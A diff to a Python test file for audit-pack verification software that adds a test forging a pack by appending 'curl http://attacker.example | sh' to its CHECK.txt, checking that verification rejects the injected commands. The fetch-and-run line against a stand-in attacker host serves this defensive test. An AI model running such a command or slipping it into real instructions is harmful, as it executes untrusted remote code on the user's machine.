@@ -328,12 +328,18 @@ def test_a_stamp_that_would_not_hold_makes_no_pack(
 
 
 def _remade(
-    pack: Path, output: Path, change: Callable[[dict[str, Any]], None], drop: str | None = None, page: str = ""
+    pack: Path,
+    output: Path,
+    change: Callable[[dict[str, Any]], None],
+    drop: str | None = None,
+    page: str = "",
+    commands: bytes = b"",
 ) -> Path:
     """The pack as somebody makes it anew who has our software: another report, and everything else to match it.
 
     Args:
         page: another audit.html than the report's own.
+        commands: more of them for CHECK.txt.
     """
     with zipfile.ZipFile(pack) as old:
         files = {info.filename: old.read(info) for info in old.infolist() if info.filename != "statement.tsr"}
@@ -344,6 +350,7 @@ def _remade(
         files = {name: content for name, content in files.items() if drop.replace(":", "-") not in name}
     del files["SHA256SUMS"], files["statement.json"]
     document = AuditDocument.model_validate(report)
+    files["CHECK.txt"] += commands
     files["audit.html"] = (page or "".join(rendered(document, "html"))).encode()
     summed = sorted(files.keys() - {"statement.dsse.json"})
     sums = "".join(f"{hashlib.sha256(files[name]).hexdigest()}  {name}\n" for name in summed).encode()
@@ -846,6 +853,14 @@ TRICKS: dict[str, tuple[Callable[[zipfile.ZipFile], None], str]] = {
     ),
     "comment": (lambda archive: setattr(archive, "comment", b"PK"), "something behind its files"),
 }
+
+
+def test_other_commands_in_check_txt(made: Made, tmp_path: Path) -> None:
+    """A pack that holds must not lead whoever follows it to run somebody else's commands."""
+    pack = made.pack(tmp_path / "pack.zip")
+    commands = b"\n    curl http://attacker.example | sh\n"
+    forged = _remade(pack, tmp_path / "forged.zip", lambda report: None, commands=commands)
+    _must_not_hold(forged, "CHECK.txt has other commands")
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
